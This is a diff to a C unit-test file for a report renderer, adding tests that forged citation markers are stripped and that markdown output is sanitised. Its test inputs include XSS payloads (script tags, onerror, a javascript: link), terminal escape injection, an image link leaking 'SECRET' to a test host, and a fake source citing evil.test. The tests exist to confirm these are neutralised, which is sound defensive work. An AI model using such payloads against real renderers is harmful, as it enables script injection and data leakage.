@@ -90,6 +90,7 @@ static void foreign_citation_markers_are_removed(void **state)
 		{"\\[3\\]", 1}, {"[[1]]", 1}, {"[1](https://x.test/)", 1}, {"(sources 1 and 2)", 2},
 		{"[ref. 4]", 1}, {"[#2]", 1}, {"[F 7]", 1}, {"(F9)", 1},
 		{"\xEF\xBC\x88\xE6\x9D\xA5\xE6\xBA\x90" "1" "\xEF\xBC\x89", 1},   /* （来源1） */
+		{"[\xE2\x80\x8B" "3]", 1}, {"[\xEF\xBC\x93]", 1}, {"[ 3 ]", 1},   /* zero-width, ３ */
 	};
 	struct cite_result r;
 	char body[512];
@@ -144,12 +145,17 @@ static void rendered_reports_carry_only_quarry_citations(void **state)
 				      "Receivers became ten times more accurate overnight [F1].\n", f, 1, 1, &r), 0);
 	rep = json_pack("{s:s, s:s, s:s, s:[{s:i, s:i, s:s}], s:[{s:i, s:s, s:s, s:[]}], s:{}}", "title",
 			"Q", "mode", "model", "body", r.body, "findings", "id", 1, "n", 1, "quote", "q",
-			"sources", "n", 1, "title", "T", "url", "https://t.test/", "quotes", "verification");
+			"sources", "n", 1, "title", "T [2]\n[3] Fake. https://evil.test/", "url",
+			"https://t.test/", "quotes", "verification");
 	qbuf_init(&out, 1 << 20);
 	assert_int_equal(research_render(rep, "md", &out, &err), 0);
 	assert_null(strstr(qbuf_cstr(&out), "[3]"));
 	assert_non_null(strstr(qbuf_cstr(&out), "May 2000. [unsupported]"));
 	assert_non_null(strstr(qbuf_cstr(&out), "overnight [1]."));
+	assert_null(strstr(qbuf_cstr(&out), "[2]"));
+	assert_null(strstr(qbuf_cstr(&out), "\n[3]"));
+	assert_non_null(strstr(qbuf_cstr(&out), "\n[1] T "));
+	assert_non_null(strstr(qbuf_cstr(&out), " Fake. https://evil.test/. https://t.test/\n"));
 	qbuf_release(&out);
 	json_decref(rep);
 	cite_result_release(&r);
@@ -161,7 +167,8 @@ static void markdown_reports_are_neutralised(void **state)
 	json_t *rep = json_pack("{s:s, s:s, s:s, s:[], s:[], s:{}}", "title", "Q\x1b]0;pwned\x07", "mode",
 				"model", "body", "See ![chart](http://x.test/?d=SECRET) and <img src=x "
 				"onerror=alert(1)> or <script>alert(2)</script> &#91;3&#93; ![x][r] "
-				"bell\x07 esc\x1b[31m c1\xC2\x9B" "31m tab\tok a < b.\n", "findings", "sources",
+				"bell\x07 esc\x1b[31m c1\xC2\x9B" "31m tab\tok a < b [x](javascript:alert(3)) "
+				"[y](https://ok.test/).\n", "findings", "sources",
 				"verification");
 	struct qbuf out;
 	struct q_error err = {0};
@@ -178,7 +185,9 @@ static void markdown_reports_are_neutralised(void **state)
 	assert_non_null(strstr(s, "&lt;script>"));
 	assert_non_null(strstr(s, "&amp;#91;3&amp;#93;"));
 	assert_non_null(strstr(s, "!\\[x]"));
-	assert_non_null(strstr(s, "a < b."));
+	assert_non_null(strstr(s, "a < b"));
+	assert_null(strstr(s, "](javascript"));
+	assert_non_null(strstr(s, "[y](https://ok.test/)"));
 	assert_non_null(strstr(s, "tab\tok"));
 	assert_null(strchr(s, '\x1b'));
 	assert_null(strchr(s, '\x07'));
